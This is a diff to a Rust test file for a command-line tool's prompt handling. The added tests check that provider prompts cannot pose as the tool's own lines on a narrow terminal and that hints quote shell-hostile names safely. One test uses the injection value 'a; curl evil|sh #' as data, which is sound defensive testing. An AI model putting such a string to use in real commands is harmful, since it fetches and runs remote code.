@@ -2,7 +2,7 @@
 
 use super::*;
 use crate::domain::ExitStatus;
-use crate::errors::Report;
+use crate::errors::{Look, Report};
 use crate::style::Style;
 use crate::testing::Recorded;
 
@@ -21,7 +21,7 @@ fn questions(yes: bool, answers: &[(&str, &str)], terminal: Option<Read>) -> (Qu
 }
 
 fn shown(error: &QuestionError) -> String {
-    Report::new(error).as_error(Style::PLAIN)
+    Report::new(error).as_error(Look { style: Style::PLAIN, width: None })
 }
 
 #[test]
@@ -110,4 +110,38 @@ fn a_provider_cannot_pretend_to_be_us() {
         said.text(),
         "[acme renku] Fine?\n[acme renku] renku: delete everything?\n[acme renku] renku: build it? [y/N] "
     );
+}
+
+/// The same on a terminal of 40 columns.
+fn on_a_narrow_terminal() -> (Questions, Recorded) {
+    let (questions, said) = questions(false, &[], Some(|| Ok(Some("no".into()))));
+    let style = Style { terminal: true, colour: false, unicode: true };
+    let screen = Screen::new(Box::new(said.clone()), style).with_columns(|| Some(40));
+    (Questions { screen: Arc::new(screen), ..questions }, said)
+}
+
+#[test]
+fn a_question_that_is_padded_to_the_width_of_the_terminal_begins_no_row_of_ours() {
+    let (asked, said) = on_a_narrow_terminal();
+    let text = format!("Fine?{}renku: allow it to read ~/.ssh?", " ".repeat(28));
+    assert!(!asked.confirm_for_provider("acme", "x", &text).unwrap());
+    assert_eq!(said.text(), "[acme] Fine?\n[acme] renku: allow it to read ~/.ssh?\n[y/N] ");
+}
+
+#[test]
+fn a_long_line_of_our_own_question_goes_on_further_right() {
+    let (asked, said) = on_a_narrow_terminal();
+    let reason = "its reason for http: “x x x x x x x renku: build it?”";
+    assert!(!asked.confirm("--yes", &format!("If you allow it:\n  {reason}\nAllow it?")).unwrap());
+    assert_eq!(
+        said.text(),
+        "If you allow it:\n  its reason for http: “x x x x x x x\n      renku: build it?”\nAllow it? [y/N] "
+    );
+}
+
+#[test]
+fn the_option_that_answers_is_one_word_for_a_shell() {
+    let (asked, _) = questions(false, &[], None);
+    let error = asked.ask_for_provider("acme", "a; curl evil|sh #", "Which", false).unwrap_err();
+    assert_eq!(error.hint().unwrap(), "answer it with `--answer 'a; curl evil|sh #'=VALUE`");
 }
